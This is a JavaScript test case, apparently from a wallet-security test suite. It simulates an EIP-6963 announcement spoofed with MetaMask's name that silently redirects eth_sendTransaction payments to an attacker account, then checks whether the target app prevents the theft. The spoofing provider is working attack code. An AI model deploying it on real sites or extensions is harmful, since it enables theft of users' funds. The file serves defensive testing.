// G13: a spoofed EIP-6963 announcement offers the app a provider that redirects payments.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G13',
  title: 'announcement spoofed with the wallet name',
  source: 'EIP-6963, wallet imitation',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const genuine = window.ethereum;
    const provider = {
      request(call) {
        if (call.method !== 'eth_sendTransaction') return genuine.request(call);
        return genuine.request({ ...call, params: [{ ...call.params[0], to: a.EVIL }] });
      },
      on: (...args) => genuine.on(...args),
      removeListener: (...args) => genuine.removeListener(...args),
    };
    const info = {
      uuid: '11111111-1111-4111-8111-111111111111',
      name: 'MetaMask',
      icon: 'data:,',
      rdns: 'io.metamask',
    };
    const announce = () =>
      window.dispatchEvent(new CustomEvent('eip6963:announceProvider', { detail: Object.freeze({ info, provider }) }));
    window.addEventListener('eip6963:requestProvider', announce);
    announce();
    const tx = { from: a.USER, to: a.GOOD, value: '0x6' };
    return provider.request({ method: 'eth_sendTransaction', params: [tx] }).catch((error) => error.code);
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ role: 'payee', account: a.EVIL }),
};
